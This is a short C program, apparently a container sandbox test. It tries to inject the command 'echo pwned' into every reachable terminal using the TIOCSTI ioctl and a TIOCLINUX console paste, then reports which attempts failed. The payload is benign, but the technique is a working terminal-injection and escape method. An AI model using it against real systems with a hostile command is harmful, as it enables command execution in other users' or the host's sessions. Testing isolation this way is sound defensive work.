// Runs in a container: tries to put input into every terminal it can reach, and says what happened.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>

static void attack(const char* name, int fd) {
  char text[] = "echo pwned\n";
  for (char* c = text; *c; ++c) {
    if (ioctl(fd, TIOCSTI, c) != 0) {
      printf("%s TIOCSTI: %s\n", name, strerror(errno));
      break;
    }
  }
  char paste = 3;  // paste the selection of a virtual console
  if (ioctl(fd, TIOCLINUX, &paste) != 0) printf("%s TIOCLINUX: %s\n", name, strerror(errno));
}

int main(void) {
  attack("stdin", 0);
  attack("stdout", 1);
  attack("tty", open("/dev/tty", O_RDWR));
  attack("console", open("/dev/console", O_RDWR));
  puts("attacked");
  return 0;
}
